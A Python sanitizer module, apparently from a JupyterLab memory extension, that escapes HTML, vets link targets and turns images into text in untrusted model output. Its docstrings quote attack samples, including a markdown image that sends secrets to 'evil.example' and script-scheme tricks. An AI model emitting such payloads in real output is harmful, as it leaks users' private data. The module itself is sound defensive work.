"""Text others wrote, made safe to put on the page: the one module every display path uses.

Model answers, memories, instruction files, tool results and file names reach the page in
outputs a live kernel sends, and JupyterLab trusts those: raw HTML in them would run in
the Jupyter page, which can drive the kernel. So no output carries such text with live
markup. Everything here follows four rules:

- raw HTML is escaped, never passed through (``<img onerror=…>`` shows as text);
- a link keeps its target only for ``http``, ``https`` and ``mailto`` URLs, and for
  relative paths that stay inside the notebook's folder (:func:`link_target`); any
  other link shows its text followed by "(link removed)";
- an image is never loaded (a remote image is the classic way to send memory text
  away: ``![](https://evil.example/?q=<secret>)``): it shows as its alt text and, for
  a URL a link could have, the URL as text;
- markdown stays markdown: headings, lists, emphasis, code and tables keep their form.

:func:`escape` is for text put into HTML, :func:`markdown_html` renders markdown to HTML
under those rules, and :func:`safe_markdown` rewrites markdown under them, for the
``text/markdown`` of an output (JupyterLab renders that itself, with raw HTML live). The
markdown it writes holds no ``<`` except its own ``<code>``, ``<pre>`` and ``<sub>`` tags,
and code and text inside them are entity-escaped, so no markdown parser, however it
reads the rest, can find a tag or a link there that this module did not write.
:func:`md_text`, :func:`md_code` and :func:`md_link` build markdown of our own around
such text. Nothing here imports ipywidgets or IPython.
"""

from __future__ import annotations

import functools
import html
import logging
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any
from urllib.parse import unquote

__all__ = [
    "IMAGE_NOT_LOADED",
    "LINK_REMOVED",
    "SAFE_SCHEMES",
    "escape",
    "link_target",
    "markdown_html",
    "md_code",
    "md_link",
    "md_text",
    "safe_markdown",
]

log = logging.getLogger("jupyter_memory")

#: URL schemes a link may keep. Everything else (``javascript:``, ``data:``, ``vbscript:``,
#: ``file:``, ...) is removed; scheme-less paths are checked by :func:`link_target`.
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})

#: Shown after the text of a link whose target was removed.
LINK_REMOVED = "(link removed)"
#: Shown for an image: its URL follows when a link could have it.
IMAGE_NOT_LOADED = "image not loaded"

#: The longest URL shown as text in place of an image.
_SHOWN_URL_CHARS = 300

_SCHEME = re.compile(r"^([A-Za-z][A-Za-z0-9+.\-]*):")
_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")


def escape(value: object) -> str:
    """``value`` as text in HTML, element content or a quoted attribute value alike."""
    return html.escape(str(value), quote=True)


def link_target(url: str) -> str | None:
    """``url`` when a link may point there, else None.

    Kept: ``http``, ``https`` and ``mailto`` URLs, fragments (``#part``), and relative
    paths that stay in the notebook's folder. Refused: any other scheme, whatever its
    case; absolute and protocol-relative paths (``/x``, ``//host``); paths with a ``..``
    segment, also percent-encoded; backslashes (browsers read them as ``/``); and control
    characters inside (browsers drop tabs and line breaks, which could hide a scheme:
    ``java\\tscript:``).
    """
    url = url.strip(" \t\r\n\f")
    if not url or _CONTROL.search(url) or "\\" in url:
        return None
    scheme = _SCHEME.match(url)
    if scheme is not None:
        return url if scheme.group(1).lower() in SAFE_SCHEMES else None
    if url.startswith("/"):
        return None
    path = re.split(r"[?#]", url, maxsplit=1)[0]
    for _ in range(3):  # %252e%252e is %2e%2e is ..
        path = unquote(path)
    if "\\" in path or any(part == ".." for part in path.split("/")):
        return None
    if _SCHEME.match(path) is not None:  # %6Aavascript: is a path, but say no all the same
        return None
    return url


def _shown_url(url: str) -> str:
    url = " ".join(url.split())
    if len(url) > _SHOWN_URL_CHARS:
        return url[: _SHOWN_URL_CHARS - 1] + "…"
    return url


def _image_note(url: str) -> str:
    """The words that stand for an image: "image not loaded: URL" for a URL a link could
    have (the person sees where it pointed), else only "image not loaded"."""
    target = link_target(url)
    return f"{IMAGE_NOT_LOADED}: {_shown_url(target)}" if target else IMAGE_NOT_LOADED


# --------------------------------------------------------------------------- HTML


def markdown_html(text: str) -> str:
    """Markdown rendered to HTML with raw HTML escaped, links checked, images as text.

    For answers, summaries and any other text others wrote that reads as markdown. If
    the parser fails, the text is shown preformatted (escaped), never dropped.
    """
    try:
        tokens, state = _syntax_tree(text)
        return str(_html_renderer()(tokens, state))
    except Exception:  # a parser failure: still legible, still escaped
        log.warning("jupyter-memory: could not render markdown; showing it as text",
                    exc_info=True)
        return f"<pre style='white-space:pre-wrap'>{escape(text)}</pre>"


_PLUGINS = ["table", "strikethrough"]


@functools.lru_cache(maxsize=8)
def _syntax_tree(text: str) -> tuple[list[dict[str, Any]], Any]:
    """mistune's tree of ``text``, parsed once for both forms: a turn's output renders
    its answer as HTML and as markdown, one after the other. Renderers only read it."""
    tokens, state = _ast_parser().parse(text)
    return list(tokens), state


@functools.lru_cache(maxsize=1)
def _ast_parser() -> Any:
    import mistune

    return mistune.create_markdown(renderer=None, plugins=_PLUGINS)


@functools.lru_cache(maxsize=1)
def _html_renderer() -> Any:
    """mistune's HTML renderer with our link and image rules, the plugins' parts added."""
    import mistune
    from mistune.util import safe_entity

    class SafeHTMLRenderer(mistune.HTMLRenderer):
        """mistune's HTML with our link and image rules; raw HTML escaped."""

        def text(self, text: str) -> str:
            return str(safe_entity(text))  # entities decoded (CommonMark), then escaped

        def link(self, text: str, url: str, title: str | None = None) -> str:
            target = link_target(url)
            if target is None:
                return f"{text} <span class='jm-removed'>{LINK_REMOVED}</span>"
            title_attr = f' title="{escape(title)}"' if title else ""
            rel = "" if not _SCHEME.match(target) else ' rel="noopener noreferrer"'
            return f'<a href="{escape(target)}"{title_attr}{rel}>{text}</a>'

        def image(self, text: str, url: str, title: str | None = None) -> str:
            alt = f"{text} " if text else ""
            return f"{alt}<span class='jm-image'>({escape(_image_note(url))})</span>"

    # The plugins register their HTML parts on the renderer of a parser made with it.
    return mistune.create_markdown(renderer=SafeHTMLRenderer(escape=True),
                                   plugins=_PLUGINS).renderer


# --------------------------------------------------------------------------- markdown


# Inline characters a markdown parser could read as syntax, and what stands for each in
# text: entities for the HTML ones, a backslash for the markdown ones ("!" too: before a
# link this module writes, it would make an image of it). A backslash is escaped where
# it could escape what follows (before punctuation, or last), so "\frac" stays as it is.
# "*" is escaped; "_" only where it could open or close emphasis, not inside a word
# (snake_case, x_1). "$" is left alone in answers (JupyterLab typesets $…$ as maths,
# safely), escaped in md_text.
_PUNCTUATION = r"!-/:-@\[-`{-~"
_INLINE = re.compile(
    rf"[&<>`*\[\]~|!]|(?<![^\W_])_|_(?![^\W_])|\\(?=[{_PUNCTUATION}]|$)")
_LITERAL_INLINE = re.compile(rf"[&<>`*_\[\]~|!$]|\\(?=[{_PUNCTUATION}]|$)")
_INLINE_ENTITIES = {"&": "&amp;", "<": "&lt;", ">": "&gt;"}
# Everything a parser could read as syntax, as numeric entities: the inside of our
# <code> and <pre> tags reads the same whether a parser takes it as HTML or markdown.
_LITERAL = re.compile(r"[&<>\"'\\`*_\[\]~|$]")
# A line of text that would start a block (heading, list, quote, setext line).
_LINE_START = re.compile(r"^( {0,3})(#|[-+=]|\d{1,9}(?=[.)]))")
_LANGUAGE = re.compile(r"[^A-Za-z0-9_+#.\-]")


def _inline_escape(text: str, pattern: re.Pattern[str] = _LITERAL_INLINE) -> str:
    return pattern.sub(lambda m: _INLINE_ENTITIES.get(m.group(), "\\" + m.group()), text)


def _answer_text(text: str) -> str:
    """A text node of an answer, escaped to read back as the same text."""
    return _inline_escape(text, _INLINE)


def _literal(text: str) -> str:
    return _LITERAL.sub(lambda m: f"&#{ord(m.group())};", text)


def _line_starts(text: str) -> str:
    """Each line's leading block marker escaped, so text stays one paragraph's text."""

    def one(line: str) -> str:
        m = _LINE_START.match(line)
        if m is None:
            return line
        marker = m.group(2)
        if marker[0].isdigit():  # "1." and "1)": escape the dot or bracket after
            end = m.end(2)
            return line[:end] + "\\" + line[end:]
        return m.group(1) + "\\" + line[m.start(2):]

    return "\n".join(one(line) for line in text.split("\n"))


def md_text(text: object) -> str:
    """Markdown that shows ``text`` exactly as written: no markup, no maths. A line break
    stays a line break and a blank line starts a new paragraph; indentation is not kept."""
    paragraphs = re.split(r"\n\s*\n", str(text).replace("\r\n", "\n").replace("\r", "\n"))
    out = []
    for para in paragraphs:
        lines = [_inline_escape(line.strip())
                 for line in para.split("\n") if line.strip()]
        if lines:
            out.append(_line_starts("  \n".join(lines)))
    return "\n\n".join(out)


def md_code(text: str) -> str:
    """Markdown for ``text`` as inline code. Our own ``<code>`` tag with the text
    entity-escaped inside, so even a backtick or ``</code>`` in it stays code."""
    return "<code>" + _literal(" ".join(str(text).split("\n"))) + "</code>"


def _pre(text: str, info: str = "") -> str:
    language = _LANGUAGE.sub("", info.split()[0]) if info.split() else ""
    cls = f' class="language-{language}"' if language else ""
    return f"<pre><code{cls}>" + _literal(text.rstrip("\n")) + "</code></pre>"


_ENTITY_AFTER = re.compile(r"#|[A-Za-z][A-Za-z0-9]*;")


def _destination(url: str) -> str:
    """A checked URL as a markdown link destination that reads back as the same URL."""
    out = []
    for i, ch in enumerate(url):
        if ch in "()":
            out.append("\\" + ch)
        elif ch == "&" and _ENTITY_AFTER.match(url, i + 1):
            out.append("%26")  # "&#58;" left in a URL: a renderer decoding twice gets ":"
        elif ch == "&":
            out.append("&amp;")
        elif ch in " <>\"`|" or ord(ch) < 0x21:
            out.append(f"%{ord(ch):02X}")
        else:
            out.append(ch)
    return "".join(out)


def md_link(text: str, url: str) -> str:
    """Markdown for a link with literal ``text``; "(link removed)" if ``url`` is refused."""
    shown = md_text(" ".join(str(text).split())) or md_text(url)
    target = link_target(url)
    if target is None:
        return f"{shown} {LINK_REMOVED}"
    return f"[{shown}]({_destination(target)})"


class _Unsupported(Exception):
    """A token this writer does not know: the text is shown literally instead."""


class _MarkdownWriter:
    """Writes mistune's syntax tree back as markdown under this module's rules."""

    in_cell = False

    def blocks(self, tokens: Iterable[Mapping[str, Any]], *, tight: bool = False) -> str:
        parts = [self.block(t) for t in tokens if t.get("type") != "blank_line"]
        return ("\n" if tight else "\n\n").join(p for p in parts if p)

    def block(self, tok: Mapping[str, Any]) -> str:
        kind = tok.get("type")
        if kind in ("paragraph", "block_text"):
            return _line_starts(self.inline(tok.get("children") or []))
        if kind == "heading":
            level = int((tok.get("attrs") or {}).get("level", 1))
            text = self.inline(tok.get("children") or []).replace("\n", " ")
            text = re.sub(r"(#+)\s*$", lambda m: "\\#" * len(m.group(1)), text)
            return "#" * max(1, min(level, 6)) + " " + text
        if kind == "block_code":
            return _pre(str(tok.get("raw", "")), str((tok.get("attrs") or {}).get("info") or ""))
        if kind == "block_quote":
            inner = self.blocks(tok.get("children") or [])
            return "\n".join("> " + line if line else ">" for line in inner.split("\n"))
        if kind == "list":
            return self.list(tok)
        if kind == "thematic_break":
            return "***"
        if kind == "block_html":
            return _line_starts(self.literal_lines(str(tok.get("raw", ""))))
        if kind == "table":
            return self.table(tok)
        raise _Unsupported(str(kind))

    def literal_lines(self, raw: str) -> str:
        """Raw HTML shown as the text it is, line by line."""
        return "\n".join(_inline_escape(line.strip()) for line in raw.strip().split("\n")
                         if line.strip())

    def list(self, tok: Mapping[str, Any]) -> str:
        attrs = tok.get("attrs") or {}
        bullet = str(tok.get("bullet") or "-")
        tight = bool(tok.get("tight", True))
        start = int(attrs.get("start") or 1)
        items = []
        for n, item in enumerate(tok.get("children") or []):
            if attrs.get("ordered"):
                delim = bullet if bullet in ".)" else "."
                marker = f"{start + n}{delim} "
            else:
                marker = (bullet if bullet in "-+*" else "-") + " "
            body = self.blocks(item.get("children") or [], tight=tight)
            lines = body.split("\n")
            pad = " " * len(marker)
            text = marker + lines[0] + "".join("\n" + (pad + line if line else "")
                                               for line in lines[1:])
            items.append(text.rstrip() if text.strip() else marker.rstrip())
        return ("\n" if tight else "\n\n").join(items)

    def table(self, tok: Mapping[str, Any]) -> str:
        children = tok.get("children") or []
        if not children:
            return ""
        head = children[0].get("children") or []
        rows = [head]
        for part in children[1:]:
            rows += [row.get("children") or [] for row in part.get("children") or []]
        aligns = [(c.get("attrs") or {}).get("align") for c in head]
        rule = {"left": ":---", "center": ":---:", "right": "---:"}
        lines = [self.row(head), "| " + " | ".join(rule.get(a or "", "---") for a in aligns) + " |"]
        lines += [self.row(row) for row in rows[1:]]
        return "\n".join(lines)

    def row(self, cells: Sequence[Mapping[str, Any]]) -> str:
        self.in_cell = True  # GFM: "\|" in a cell's code is a "|" (mistune keeps the "\")
        try:
            text = [self.inline(c.get("children") or []).replace("\n", " ").strip()
                    for c in cells]
        finally:
            self.in_cell = False
        return "| " + " | ".join(text) + " |"

    def inline(self, tokens: Iterable[Mapping[str, Any]]) -> str:
        return "".join(self.span(t) for t in tokens)

    def span(self, tok: Mapping[str, Any]) -> str:
        kind = tok.get("type")
        children = tok.get("children") or []
        if kind == "text":
            from mistune.util import unescape

            return _answer_text(unescape(str(tok.get("raw", ""))))
        if kind == "emphasis":
            return "*" + self.inline(children) + "*"
        if kind == "strong":
            return "**" + self.inline(children) + "**"
        if kind == "strikethrough":
            return "~~" + self.inline(children) + "~~"
        if kind == "codespan":
            code = str(tok.get("raw", ""))
            return md_code(code.replace("\\|", "|") if self.in_cell else code)
        if kind == "linebreak":
            return "  \n"
        if kind == "softbreak":
            return "\n"
        if kind == "inline_html":
            return _inline_escape(str(tok.get("raw", "")))
        if kind in ("link", "image"):
            url = str((tok.get("attrs") or {}).get("url") or "")
            text = self.inline(children)
            if kind == "image":
                return (text + " " if text else "") + "(" + md_text(_image_note(url)) + ")"
            target = link_target(url)
            if target is None:
                return (text + " " if text else "") + LINK_REMOVED
            return f"[{text or md_text(target)}]({_destination(target)})"
        raise _Unsupported(str(kind))


def safe_markdown(text: str) -> str:
    """``text`` (markdown others wrote) rewritten so that no renderer finds live markup in
    it: raw HTML escaped, links checked, images as text, the rest kept as markdown.

    If the parser fails or meets a construct the writer does not know, the whole text is
    shown as a preformatted block instead (escaped, never dropped).
    """
    try:
        tokens, _state = _syntax_tree(text)
        return _MarkdownWriter().blocks(tokens)
    except Exception:  # a parser failure or a token we do not write: literal, still safe
        log.warning("jupyter-memory: could not rewrite markdown; showing it as text",
                    exc_info=True)
        return _pre(text)
